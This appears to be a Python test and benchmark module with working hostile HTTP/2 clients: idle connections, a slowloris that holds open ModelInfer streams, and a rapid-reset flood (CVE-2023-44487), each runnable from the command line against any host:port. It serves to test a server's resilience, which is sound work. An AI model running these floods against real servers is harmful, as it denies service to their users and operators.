"""Hostile HTTP/2 clients for the connection tests and bench/faults.py: idle sockets that never send the preface,
streams that never send their body (slowloris), and a rapid-reset flood (CVE-2023-44487).

Written on the `h2` package (a pure-Python HTTP/2 state machine) over plain sockets, so each
client does exactly what it says and nothing a well-behaved gRPC library would add.
"""

from __future__ import annotations

import contextlib
import selectors
import socket
import threading
import time
from dataclasses import dataclass, field

import h2.config
import h2.connection
import h2.events
import h2.exceptions

MODEL_INFER = "/inference.GRPCInferenceService/ModelInfer"


def _headers(authority: str, path: str = MODEL_INFER) -> list[tuple[str, str]]:
    return [
        (":method", "POST"),
        (":scheme", "http"),
        (":authority", authority),
        (":path", path),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
    ]


def connect(address: str, timeout: float = 10.0) -> socket.socket:
    host, port = address.rsplit(":", 1)
    return socket.create_connection((host, int(port)), timeout=timeout)


def is_closed(sock: socket.socket) -> bool:
    """Whether the server has closed this socket (reads what is waiting without blocking)."""
    sock.setblocking(False)
    try:
        while True:
            data = sock.recv(65536)
            if not data:
                return True
    except BlockingIOError:
        return False
    except OSError:  # reset by the server
        return True


def idle_connections(address: str, count: int) -> list[socket.socket]:
    """`count` TCP connections that send nothing at all (no HTTP/2 preface)."""
    sockets: list[socket.socket] = []
    try:
        for _ in range(count):
            sockets.append(connect(address))
    except BaseException:
        for sock in sockets:
            sock.close()
        raise
    return sockets


@dataclass
class H2Client:
    """One raw HTTP/2 connection: preface and settings sent, reads handled by `pump`."""

    sock: socket.socket
    conn: h2.connection.H2Connection
    authority: str
    closed: bool = False
    goaway: h2.events.ConnectionTerminated | None = None
    goaway_at: float | None = None  # when the server began to end the connection (GOAWAY)
    closed_at: float | None = None

    @classmethod
    def open(cls, address: str) -> H2Client:
        sock = connect(address)
        conn = h2.connection.H2Connection(
            h2.config.H2Configuration(client_side=True, header_encoding="utf-8")
        )
        conn.initiate_connection()
        sock.sendall(conn.data_to_send())
        sock.setblocking(False)
        return cls(sock, conn, address)

    def pump(self) -> None:
        """Read what the server sent (settings, pings, GOAWAY) and answer as HTTP/2 requires."""
        if self.closed:
            return
        try:
            while True:
                data = self.sock.recv(65536)
                if not data:
                    self._close()
                    return
                if self.goaway_at is not None:
                    continue  # the server is ending the connection: wait for it to close
                try:
                    for event in self.conn.receive_data(data):
                        if isinstance(event, h2.events.ConnectionTerminated):
                            self.goaway, self.goaway_at = event, time.monotonic()
                    self.flush()
                except h2.exceptions.ProtocolError:
                    # h2 refuses frames that follow a GOAWAY in the same read (and loses the
                    # event): the connection is ending either way
                    self.goaway_at = time.monotonic()
        except BlockingIOError:
            return
        except OSError:
            self._close()

    def flush(self) -> None:
        data = self.conn.data_to_send()
        if data:
            self.sock.setblocking(True)
            try:
                self.sock.sendall(data)
            finally:
                self.sock.setblocking(False)

    def _close(self) -> None:
        self.closed = True
        self.closed_at = time.monotonic()

    def close(self) -> None:
        with contextlib.suppress(OSError):
            self.sock.close()


@dataclass
class H2Crowd:
    """Many raw HTTP/2 connections whose reads one background thread handles."""

    clients: list[H2Client] = field(default_factory=list)
    _stop: threading.Event = field(default_factory=threading.Event)
    _thread: threading.Thread | None = None

    def start(self) -> H2Crowd:
        self._thread = threading.Thread(target=self._run, daemon=True)
        self._thread.start()
        return self

    def _run(self) -> None:
        selector = selectors.DefaultSelector()
        for client in self.clients:
            selector.register(client.sock, selectors.EVENT_READ, client)
        while not self._stop.is_set():
            for key, _ in selector.select(0.2):
                client = key.data
                client.pump()
                if client.closed:
                    selector.unregister(client.sock)
        selector.close()

    @property
    def open_count(self) -> int:
        return sum(not c.closed for c in self.clients)

    def stop(self) -> None:
        self._stop.set()
        if self._thread is not None:
            self._thread.join(5)
        for client in self.clients:
            client.close()


def slowloris(address: str, count: int, streams_each: int = 1) -> H2Crowd:
    """`count` connections, each opening `streams_each` ModelInfer streams (HEADERS, no DATA,
    no END_STREAM) and then sending nothing but the acknowledgements HTTP/2 requires."""
    crowd = H2Crowd()
    try:
        for _ in range(count):
            client = H2Client.open(address)
            for _ in range(streams_each):
                stream = client.conn.get_next_available_stream_id()
                client.conn.send_headers(stream, _headers(address))
            client.flush()
            crowd.clients.append(client)
    except BaseException:
        crowd.stop()
        raise
    return crowd.start()


@dataclass
class ResetFlood:
    """What a rapid-reset flood did: streams opened and reset, and how the server reacted."""

    streams: int = 0
    connections: int = 0
    refused_connections: int = 0
    goaways: list[str] = field(default_factory=list)
    seconds: float = 0.0


def rapid_reset(address: str, seconds: float, stop: threading.Event | None = None) -> ResetFlood:
    """HEADERS then RST_STREAM(CANCEL), as fast as one thread can, for `seconds`; a connection
    the server closes is replaced by a new one."""
    flood = ResetFlood()
    start = time.monotonic()
    client: H2Client | None = None
    while time.monotonic() - start < seconds and not (stop and stop.is_set()):
        if client is None or client.closed:
            if client is not None:
                if client.goaway is not None:
                    flood.goaways.append(
                        f"{client.goaway.error_code!r} {client.goaway.additional_data!r}"
                    )
                client.close()
            try:
                client = H2Client.open(address)
            except OSError:
                flood.refused_connections += 1
                time.sleep(0.01)
                client = None
                continue
            flood.connections += 1
        try:
            for _ in range(100):
                stream = client.conn.get_next_available_stream_id()
                client.conn.send_headers(stream, _headers(address))
                client.conn.reset_stream(stream)
                flood.streams += 1
            client.flush()
        except (OSError, h2.exceptions.ProtocolError, h2.exceptions.NoAvailableStreamIDError):
            client._close()
        client.pump()
    if client is not None:
        client.close()
    flood.seconds = time.monotonic() - start
    return flood


def main(argv: list[str] | None = None) -> int:
    """Run one attack in a process of its own (so it does not share the measuring client's GIL).

    `python -m bench.hostile idle|slowloris|reset ADDRESS COUNT_OR_SECONDS`:
    idle and slowloris print `ready` once their connections are open, then every 0.25 s a JSON
    line (seconds since opening, connections the server has closed, GOAWAYs seen) until stdin
    closes; reset floods for the seconds given and prints one JSON line of what it did.
    """
    import argparse
    import json
    import select
    import sys

    parser = argparse.ArgumentParser(description=main.__doc__.split("\n\n")[0])
    parser.add_argument("mode", choices=("idle", "slowloris", "reset"), help="the attack")
    parser.add_argument("address", help="the server's host:port")
    parser.add_argument(
        "amount", type=float, help="connections (idle, slowloris) or seconds (reset)"
    )
    args = parser.parse_args(argv)
    mode, address, amount = args.mode, args.address, args.amount
    if mode == "reset":
        print("ready", flush=True)
        print(json.dumps(rapid_reset(address, amount).__dict__), flush=True)
        return 0
    start = time.monotonic()
    sockets: list[socket.socket] = []
    crowd: H2Crowd | None = None
    if mode == "idle":
        sockets = idle_connections(address, int(amount))
    else:
        crowd = slowloris(address, int(amount))
    print("ready", flush=True)
    closed: set[int] = set()
    while not select.select([sys.stdin], [], [], 0.25)[0]:
        if crowd is not None:
            report = {"closed": len(crowd.clients) - crowd.open_count,
                      "goaways": sum(c.goaway_at is not None for c in crowd.clients)}  # fmt: skip
        else:
            closed.update(i for i, s in enumerate(sockets) if i not in closed and is_closed(s))
            report = {"closed": len(closed), "goaways": 0}
        print(json.dumps({"t": round(time.monotonic() - start, 2), **report}), flush=True)
    if crowd is not None:
        crowd.stop()
    for sock in sockets:
        sock.close()
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
